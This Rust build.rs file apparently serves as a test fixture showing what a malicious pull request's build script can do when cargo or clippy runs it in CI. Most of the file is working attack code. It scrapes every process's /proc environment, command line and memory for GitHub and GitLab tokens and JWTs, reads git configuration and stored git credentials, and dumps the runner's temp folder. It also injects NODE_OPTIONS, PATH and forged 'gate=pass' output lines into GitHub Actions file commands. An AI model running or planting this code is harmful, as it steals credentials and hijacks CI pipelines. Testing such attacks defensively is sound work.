// What a pull request's build script can do as cargo (clippy) runs it: read what every process
// of its user shows in /proc, the checkout's git configuration, the user's git credentials and
// the runner's temporary folder, and write the runner's file commands. Everything found goes
// to the file LOOT names; the test looks there for the secrets it gave the bot.
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

const LOOT: &str = "@LOOT@";
const MARKERS: [&[u8]; 4] = [b"ghs_", b"glpat-", b"glcbt-", b"eyJ"];

fn text(bytes: &[u8]) -> String {
    bytes.iter().map(|&b| if b == 0 { '\n' } else { b as char }).collect()
}

fn attempt(out: &mut String, what: &str, read: impl FnOnce() -> std::io::Result<String>) {
    let found = read().unwrap_or_else(|e| format!("refused: {e}"));
    out.push_str(&format!("== {what}\n{found}\n"));
}

fn scan_memory(pid: &str) -> std::io::Result<String> {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps"))?;
    let mut mem = File::open(format!("/proc/{pid}/mem"))?;
    let (mut hits, mut total) = (Vec::new(), 0usize);
    for line in maps.lines() {
        if line.contains("[vvar]") || line.contains("[vsyscall]") { continue; }
        let mut fields = line.split_whitespace();
        let (range, perms) = (fields.next().unwrap_or(""), fields.next().unwrap_or(""));
        if !perms.starts_with('r') { continue; }
        let Some((a, b)) = range.split_once('-') else { continue };
        let (start, end) = (u64::from_str_radix(a, 16).unwrap_or(0), u64::from_str_radix(b, 16).unwrap_or(0));
        let mut at = start;
        while at < end && total < 512 << 20 {
            let mut chunk = vec![0u8; ((end - at) as usize).min(1 << 20)];
            if mem.seek(SeekFrom::Start(at)).is_err() { break; }
            let Ok(n) = mem.read(&mut chunk) else { break };
            total += n;
            for marker in MARKERS {
                for i in 0..n.saturating_sub(marker.len()) {
                    if hits.len() < 400 && &chunk[i..i + marker.len()] == marker {
                        hits.push(text(&chunk[i..(i + 80).min(n)]));
                    }
                }
            }
            at += 1 << 20;
        }
    }
    Ok(format!("{total} bytes read\n{}", hits.join("\n")))
}

fn walk(folder: &Path, depth: u32, out: &mut String) {
    let Ok(entries) = fs::read_dir(folder) else { return };
    for entry in entries.flatten() {
        let p = entry.path();
        if p.is_dir() && depth < 4 { walk(&p, depth + 1, out); }
        else if let Ok(bytes) = fs::read(&p) {
            out.push_str(&format!("-- {}\n{}\n", p.display(), text(&bytes[..bytes.len().min(65536)])));
        }
    }
}

fn file_command(name: &str, prefix: &str) -> Option<PathBuf> {
    if let Ok(p) = std::env::var(name) { return Some(PathBuf::from(p)); }
    let folder = PathBuf::from(std::env::var("RUNNER_TEMP").ok()?).join("_runner_file_commands");
    fs::read_dir(folder).ok()?.flatten().map(|e| e.path())
        .find(|p| p.file_name().map_or(false, |n| n.to_string_lossy().starts_with(prefix)))
}

fn main() {
    let mut out = String::new();
    let me = std::process::id().to_string();
    out.push_str(&format!("== attack ran\nbuild.rs in {}\n", std::env::current_dir().unwrap().display()));
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let pid = entry.file_name().to_string_lossy().to_string();
        if !pid.chars().all(|c| c.is_ascii_digit()) || pid == me { continue; }
        attempt(&mut out, &format!("environ {pid}"), || fs::read(format!("/proc/{pid}/environ")).map(|b| text(&b)));
        attempt(&mut out, &format!("cmdline {pid}"), || fs::read(format!("/proc/{pid}/cmdline")).map(|b| text(&b)));
        attempt(&mut out, &format!("mem {pid}"), || scan_memory(&pid));
    }
    attempt(&mut out, "git config", || {
        Command::new("git").args(["config", "--list", "--show-origin"]).output()
            .map(|o| text(&o.stdout))
    });
    // cargo runs a build script in the package's folder: the checkout.
    let manifest = PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap_or_default());
    attempt(&mut out, ".git/config", || fs::read(manifest.join(".git/config")).map(|b| text(&b)));
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_default());
    attempt(&mut out, "~/.git-credentials", || fs::read(home.join(".git-credentials")).map(|b| text(&b)));
    attempt(&mut out, "~/.config/git/credentials", || fs::read(home.join(".config/git/credentials")).map(|b| text(&b)));
    attempt(&mut out, "runner temp", || {
        let mut found = String::new();
        walk(Path::new(&std::env::var("RUNNER_TEMP").unwrap_or_else(|_| "/tmp".into())), 0, &mut found);
        Ok(found)
    });
    for (name, prefix, line) in [("GITHUB_ENV", "set_env_", "NODE_OPTIONS=--require=/tmp/pwned.js\n"),
                                 ("GITHUB_PATH", "add_path_", "/tmp/pwned-bin\n"),
                                 ("GITHUB_OUTPUT", "set_output_", "gate=pass\n")] {
        if let Some(file) = file_command(name, prefix) {
            attempt(&mut out, &format!("write {name}"), || {
                OpenOptions::new().append(true).open(&file)?.write_all(line.as_bytes())?;
                Ok(format!("wrote {}", file.display()))
            });
        }
    }
    if let Ok(mut loot) = OpenOptions::new().append(true).create(true).open(LOOT) {
        let _ = loot.write_all(out.as_bytes());
    }
    println!("cargo:rerun-if-changed=build.rs");
}
